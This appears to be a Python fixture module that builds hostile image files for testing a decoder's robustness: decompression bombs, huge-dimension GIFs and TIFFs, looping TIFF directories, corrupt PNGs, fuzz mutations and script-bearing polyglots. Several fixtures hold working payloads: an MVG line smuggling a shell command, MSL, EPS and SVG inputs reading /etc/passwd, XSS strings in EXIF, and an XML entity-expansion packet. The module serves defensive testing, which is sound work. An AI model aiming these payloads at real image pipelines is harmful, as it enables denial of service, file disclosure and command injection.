"""Images that were made to hurt whoever decodes them, a function each; H1, H2, … number the kinds of attack."""

from __future__ import annotations

import gzip
import struct
import zlib

from PIL import Image

import sample_media

_PNG = b"\x89PNG\r\n\x1a\n"


def _png(*chunks: bytes) -> bytes:
    return _PNG + b"".join(chunks) + sample_media.chunk(b"IEND", b"")


def _header(width: int, height: int, depth: int = 8, colour: int = 2, *rest: int) -> bytes:
    compression, filtering, interlace = rest or (0, 0, 0)
    return sample_media.chunk(
        b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, compression, filtering, interlace)
    )


def _small_pixels() -> bytes:
    return sample_media.chunk(b"IDAT", zlib.compress((b"\0" + b"\x40\x80\xc0" * 8) * 8))


def huge_one_bit_png() -> bytes:
    """H3: 4.3 gigapixels in half a megabyte, and every row of them is there."""
    row_bytes = 1 + (65_535 + 7) // 8
    deflate = zlib.compressobj(1)
    megabytes = bytes(row_bytes * 128)
    compressed = b"".join(deflate.compress(megabytes) for _ in range(65_535 // 128 + 1)) + deflate.flush()
    return _png(_header(65_535, 65_535, 1, 0), sample_media.chunk(b"IDAT", compressed))


def gif(width: int, height: int, frames: int, frame_side: int = 1) -> bytes:
    """H1, H4: a canvas of any size and any number of square frames, of which one pixel is there."""
    descriptor = b"\x2c" + struct.pack("<HHHHB", 0, 0, frame_side, frame_side, 0)
    frame = b"\x21\xf9\x04\0\x01\0\0\0" + descriptor + b"\x02\x02\x44\x01\0"
    start = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return start + frame * frames + b"\x3b"


def text_bomb_png() -> bytes:
    """H2: a comment that inflates to 512 MB."""
    deflate = zlib.compressobj(9)
    packed = b"".join(deflate.compress(bytes(1 << 20)) for _ in range(512)) + deflate.flush()
    return _png(_header(8, 8), sample_media.chunk(b"zTXt", b"Comment\0\0" + packed), _small_pixels())


def profile_bomb_png() -> bytes:
    """H2: a colour profile that inflates to 512 MB."""
    deflate = zlib.compressobj(9)
    packed = b"".join(deflate.compress(bytes(1 << 20)) for _ in range(512)) + deflate.flush()
    return _png(_header(8, 8), sample_media.chunk(b"iCCP", b"bomb\0\0" + packed), _small_pixels())


def broken_pngs() -> dict[str, bytes]:
    """H5: each breaks the format in one place, as PngSuite's corrupt set does."""
    good = sample_media.encoded(sample_media.photo(64, 48), "PNG")
    flipped = bytearray(good)
    flipped[len(good) // 2] ^= 0xFF
    return {
        "colour type 1": _png(_header(8, 8, 8, 1), _small_pixels()),
        "colour type 9": _png(_header(8, 8, 8, 9), _small_pixels()),
        "bit depth 0": _png(_header(8, 8, 0, 2), _small_pixels()),
        "bit depth 3": _png(_header(8, 8, 3, 0), _small_pixels()),
        "bit depth 99": _png(_header(8, 8, 99, 0), _small_pixels()),
        "no pixels": _png(_header(8, 8)),
        "no header": _png(_small_pixels()),
        "width 0": _png(_header(0, 8), _small_pixels()),
        "too few rows": _png(_header(8, 800), _small_pixels()),
        "palette missing": _png(_header(8, 8, 8, 3), _small_pixels()),
        "a byte flipped": bytes(flipped),
        "pixels that are no deflate stream": _png(_header(8, 8), sample_media.chunk(b"IDAT", b"no deflate")),
        "line ends converted": good.replace(b"\r\n", b"\n", 1),
    }


def truncated(content: bytes, share: float = 0.6) -> bytes:
    """H8: the beginning of a file."""
    return content[: int(len(content) * share)]


def many_scans_jpeg(scans: int = 10_000) -> bytes:
    """H9: a progressive JPEG that sends the same scan of one component again and again, each time in order."""
    good = sample_media.encoded(Image.new("L", (256, 256)), "JPEG", quality=80, progressive=True)
    first = good.index(b"\xff\xda")
    second = good.index(b"\xff\xc4", first)
    return good[:first] + good[first:second] * scans + good[second:]


def _tiff(entries: list[tuple[int, int, int, int]], following: int, tail: bytes = b"") -> bytes:
    directory = struct.pack("<H", len(entries))
    directory += b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries))
    return b"II*\0" + struct.pack("<I", 8) + directory + struct.pack("<I", following) + tail


def _tiff_entries(width: int, height: int, rows: int, size: int) -> list[tuple[int, int, int, int]]:
    pixels = 8 + 2 + 12 * 9 + 4
    return [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, pixels),
        (277, 3, 1, 1),
        (278, 4, 1, rows),
        (279, 4, 1, size),
    ]


def looping_tiff() -> bytes:
    """H12: a directory that is its own successor."""
    return _tiff(_tiff_entries(8, 8, 8, 64), 8, bytes(range(64)))


def endless_strips_tiff() -> bytes:
    """H12: it claims 2^32 - 1 rows in strips of one row."""
    return _tiff(_tiff_entries(8, 0xFFFFFFFF, 1, 64), 0, bytes(64))


def giant_tile_tiff() -> bytes:
    """H12: one tile of 4 gigapixels around a picture of 64 pixels."""
    entries = [entry for entry in _tiff_entries(8, 8, 8, 64) if entry[0] not in {273, 278, 279}]
    entries += [(322, 4, 1, 65_520), (323, 4, 1, 65_520), (324, 4, 1, 130), (325, 4, 1, 64)]
    return _tiff(entries, 0, bytes(64))


def wordless_avif() -> bytes:
    """H10: boxes that promise more than there is."""
    ftyp = struct.pack(">I4s4sI4s", 20, b"ftyp", b"avif", 0, b"mif1")
    return ftyp + struct.pack(">I4sI", 0x7FFFFFFF, b"meta", 0) + bytes(64)


def wordless_heic() -> bytes:
    """H10: the same under HEVC's brand."""
    return wordless_avif().replace(b"avif", b"heic")


def scripts_named_as_pictures() -> dict[str, bytes]:
    """H16: programs of the image tools of old, which ran them."""
    return {
        "mvg": b"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'https://x/x\"|touch /tmp/x\"'\npop\n",
        "msl": b'<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>',
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
        "svgz": gzip.compress(b'<svg xmlns="http://www.w3.org/2000/svg"/>', mtime=0),
    }


PAYLOAD = b"<script>alert('polyglot')</script>"


def polyglots() -> dict[str, bytes]:
    """H17: sound pictures that are something else as well."""
    picture = sample_media.photo(64, 48)
    jpeg = sample_media.encoded(picture, "JPEG")
    png = sample_media.encoded(picture, "PNG")
    return {
        "jpeg with html": sample_media.with_segment(jpeg, 0xFE, b"<html>" + PAYLOAD),
        "png with script": png + PAYLOAD,
        "gif with archive": sample_media.encoded(picture.convert("P"), "GIF") + b"PK\x03\x04" + PAYLOAD,
    }


def mutations(content: bytes, count: int) -> list[bytes]:
    """H7, H11: ``count`` copies with bytes changed, always the same ones."""
    copies = []
    state = 2_463_534_242
    for _ in range(count):
        copy = bytearray(content)
        for _ in range(12):
            state ^= state << 13 & 0xFFFFFFFF
            state ^= state >> 17
            state ^= state << 5 & 0xFFFFFFFF
            copy[16 + state % (len(copy) - 16)] = state >> 8 & 0xFF
        copies.append(bytes(copy))
    return copies


def confusing_metadata_jpeg() -> bytes:
    """H32: scripts, broken UTF-8, NULs and 64 KB in the fields that people read."""
    entries = [
        (0x010E, b"<script>alert(1)</script>\0hidden"),
        (0x013B, b"\xff\xfe broken \x80 bytes\0"),
        (0x8298, b"(c)\x01\x02 controls \x7f\0"),
    ]
    place = 8 + 2 + 12 * len(entries) + 4
    directory, data = struct.pack("<H", len(entries)), b""
    for tag, text in entries:
        directory += struct.pack("<HHII", tag, 2, len(text), place + len(data))
        data += text
    exif = b"Exif\0\0II*\0\x08\0\0\0" + directory + bytes(4) + data
    packet = b"<!DOCTYPE x [<!ENTITY a 'AAAA'><!ENTITY b '&a;&a;&a;&a;'>]><x>&b;</x>"
    xmp = b"http://ns.adobe.com/xap/1.0/\0" + packet + b" " * (64_000 - len(packet))
    jpeg = sample_media.encoded(sample_media.photo(64, 48), "JPEG")
    return sample_media.with_segment(sample_media.with_segment(jpeg, 0xE1, xmp), 0xE1, exif)
